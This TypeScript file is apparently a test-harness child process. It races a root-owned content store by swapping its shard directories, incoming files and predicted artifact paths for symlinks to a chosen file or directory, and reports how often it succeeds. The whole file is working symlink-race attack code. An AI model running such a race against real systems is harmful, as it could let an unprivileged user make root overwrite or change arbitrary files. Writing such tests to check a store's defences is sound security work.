import { createHash } from 'node:crypto';
import { mkdirSync, readdirSync, renameSync, rmSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';

/** What the parent starts it with: a store, and what it would like root to change. */
const [dir = '', file = '', directory = ''] = process.argv.slice(2);
const counts = { attempts: 0, directoriesReplaced: 0, linksPlanted: 0 };
/** Where it puts what it takes away. */
const hidden = join(dir, 'hidden');
let round = 0;

function tried(...steps: readonly (() => void)[]): boolean {
  try {
    for (const step of steps) step();
    return true;
  } catch {
    return false;
  }
}

/** Links in the places of directories that root just made or is about to use, taken away again a little later. */
function replaceDirectories(): void {
  tried(() => mkdirSync(hidden));
  for (const entry of readdirSync(dir, { withFileTypes: true })) {
    const path = join(dir, entry.name);
    if (entry.isSymbolicLink() && round % 4 === 0) tried(() => rmSync(path));
    if (entry.name.includes('.')) tried(() => renameSync(path, join(hidden, entry.name)));
    else if (entry.isDirectory() && isWorthwhile(entry.name)) replaceDirectory(path);
  }
}

/** Without `incoming` root gets no further than that: a shard is where it makes most. */
const isWorthwhile = (name: string): boolean => name.length === 2 || (name !== 'hidden' && round % 256 === 0);

function replaceDirectory(path: string): void {
  counts.attempts += 1;
  const target = round % 8 === 0 ? directory : file;
  const isReplaced = tried(
    // Beside it: a directory that is still root's cannot be given another parent.
    () => renameSync(path, `${path}.${counts.attempts}`),
    () => symlinkSync(target, path),
  );
  if (isReplaced) counts.directoriesReplaced += 1;
}

/** Links in the places of what root writes and is about to write. */
function plantLinks(): void {
  const digest = createHash('sha256')
    .update(`artifact ${(round / 16) % 400}`)
    .digest('hex');
  const place = join(dir, digest.slice(0, 2), digest);
  if (tried(() => symlinkSync(file, place))) counts.linksPlanted += 1;
  tried(() => mkdirSync(place));
  for (const name of readdirSync(join(dir, 'incoming')).slice(0, (round / 16) % 3)) {
    const path = join(dir, 'incoming', name);
    tried(
      () => renameSync(path, `${path}.aside`),
      () => symlinkSync(file, path),
    );
  }
}

function attack(): void {
  tried(replaceDirectories);
  if (round % 16 === 0) tried(plantLinks);
  round += 1;
  setImmediate(attack);
}

process.on('message', () => {
  process.send?.(counts, () => process.disconnect());
});
process.on('disconnect', () => process.exit());
process.send?.('started');
attack();
